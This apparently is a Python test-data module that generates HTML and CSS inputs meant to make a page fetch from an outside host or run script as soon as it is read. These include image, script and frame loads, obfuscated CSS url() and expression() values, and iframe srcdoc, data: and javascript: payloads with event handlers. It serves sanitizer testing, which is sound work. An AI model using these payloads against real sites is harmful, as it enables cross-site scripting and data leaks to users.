"""Elements, style sheets and frames that would ask another host as soon as the page is read."""

from .words import ELSEWHERE, RUN

LOADERS = (
    '<img src="{}/1">', '<img srcset="{}/2 1x, {}/3 2x">', '<image href="{}/4" src="{}/5">',
    '<picture><source srcset="{}/6"><img src=/x alt=x></picture>',
    '<img loading=eager lowsrc="{}/7">', '<video poster="{}/8"></video>',
    '<video autoplay src="{}/9"></video>', '<audio autoplay src="{}/10">',
    '<video><source src="{}/11"><track default src="{}/12"></video>',
    '<iframe src="{}/13"></iframe>', '<iframe srcdoc="<img src={}/14>"></iframe>',
    '<object data="{}/15"></object>', '<embed src="{}/16">',
    '<object type=x><param name=movie value="{}/17"></object>',
    '<applet codebase="{}" code=x></applet>', '<frameset><frame src="{}/18"></frameset>',
    '<bgsound src="{}/19">', '<body background="{}/20">',
    '<table background="{}/21"><tr><td background="{}/22">x</table>',
    '<input type=image src="{}/23">', '<script src="{}/24"></script>',
    '<script type=module>import "{}/25"</script>',
    '<script type=importmap>{{"imports":{{"x":"{}/26"}}}}</script>',
    '<svg><image href="{}/27" /></svg>',
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{}/28"]}}]}}</script>',
    '<svg><image xlink:href="{}/29" /></svg>', '<svg><use href="{}/30#x" /></svg>',
    '<svg><script href="{}/31"></script></svg>',
    '<svg><filter><feImage href="{}/32" /></filter></svg>',
    '<svg><style>@import "{}/33";</style></svg>', '<math><mglyph src="{}/34"></math>',
    '<meta http-equiv=refresh content="0;url={}/35">', '<base href="{}/"><img src=36>',
    '<portal src="{}/37"></portal>', '<fencedframe src="{}/38"></fencedframe>',
    '<template><img src="{}/39"></template>', '<noscript><img src="{}/40"></noscript>',
    '<object data="data:text/html,<img src={}/41>"></object>', '<xml src="{}/42"></xml>',
    '<style>@import "{}/43";</style>', '<style>p{{background:url("{}/44")}}</style>',
    "<style>@font-face{{font-family:x;src:url({}/45)}}*{{font-family:x}}</style>",
    '<layer src="{}/46">', '<p style="background:url({}/47)">x</p>',
    '<li style="list-style:url({}/48)">x</li>',
    '<marquee style="background-image:image-set(&quot;{}/49&quot; 1x)">x</marquee>',
    '<td style="border-image:url({}/50)">x</td>', '<a href=/ style="cursor:url({}/51),auto">x</a>',
    '<h2 style="mask:url({}/52);-webkit-mask:url({}/53)">x</h2>',
    '<hr style="content:url({}/54)">',
    '<blockquote cite="{}/55" style="filter:url({}/56#x)">x</blockquote>', '<link href="{}/57">',
)  # fmt: skip
WAYS_TO_ELSEWHERE = (
    ELSEWHERE, "//elsewhere.example", "https:\\\\elsewhere.example", "HTTPS://elsewhere.example",
    "ht\ntps://elsewhere.example",
)  # fmt: skip
RELATIONS = (
    "stylesheet", "alternate stylesheet", "icon", "shortcut icon", "apple-touch-icon", "manifest",
    "preload", "prefetch", "prerender", "preconnect", "dns-prefetch", "modulepreload", "import",
    "next", "search", "pingback", "expect", "compression-dictionary", "mask-icon",
)  # fmt: skip
DECLARATIONS = (
    "width:expression(hit())", "behavior:url({}/x.htc)", "-moz-binding:url({}/x#x)",
    "background:url(javascript:hit())", "background:u\\72l({}/css)", "background:\\75rl('{}/css')",
    "list-style-image:url({}/css)", "xss:expr/*x*/ession(hit())", "background:url(/**/'{}/css')",
    "animation:x 1s;position:fixed;inset:0", "--x:url({}/css);background:var(--x)",
    "background:url({}/css?<!--)", "}}@import url({}/css);a{{", "@import '{}/css'",
    "-o-link:'javascript:hit()'", "shape-outside:url({}/css);float:left",
    "offset-path:url({}/css)", "cursor:-webkit-image-set(url({}/css) 1x)",
)  # fmt: skip
SANDBOXES = (
    "", "sandbox=allow-scripts ", "sandbox loading=lazy ", "allow=fullscreen credentialless ",
)  # fmt: skip


def loaders():
    for way in WAYS_TO_ELSEWHERE:
        for loader in LOADERS:
            yield loader.format(way, way)


def relations():
    for relation in RELATIONS:
        yield f'<link rel="{relation}" as=script href="{ELSEWHERE}/{relation}">'
        yield f'<p>x<link rel="{relation}" onload="{RUN}" onerror={RUN} href=//elsewhere.example>'


def declarations():
    """Style sheets inside the text, as attribute and as element."""
    for number, declaration in enumerate(DECLARATIONS):
        style = declaration.format(ELSEWHERE)
        yield f'<p style="{style}">x</p>'
        yield f"<STYLE type=text/css>*{{{style}}}</STYLE><p class=x>x</p>"
        yield f'<svg><style>*{{{style}}}</style><rect style="{style}" /></svg>'
        yield f"<table><tr><td id=a{number} style='{style}' class=field>x</table>"


def frames():
    """Documents inside the document."""
    inner = ("<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>")
    for document in inner:
        escaped = document.replace("<", "&lt;")
        for sandbox in SANDBOXES:
            yield f'<iframe {sandbox}srcdoc="{document}"></iframe>'
            yield f"<iframe {sandbox}srcdoc='{escaped}'>"
        yield f'<iframe src="data:text/html;,{document}"></iframe>'
        yield f'<object data="data:text/html;,{document}"></object>'
        yield f'<embed type=text/html src="data:text/html,{escaped}">'
        yield f'<iframe src="javascript:&apos;{escaped}&apos;"></iframe>'
